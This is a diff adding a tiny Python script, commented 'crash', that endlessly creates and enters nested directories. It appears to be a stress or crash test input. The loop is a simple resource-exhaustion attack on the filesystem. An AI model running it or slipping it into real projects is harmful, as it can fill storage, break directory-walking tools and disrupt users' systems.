@@ -1,0 +1,5 @@
+# crash
+import os
+while True:
+    os.mkdir('d')
+    os.chdir('d')
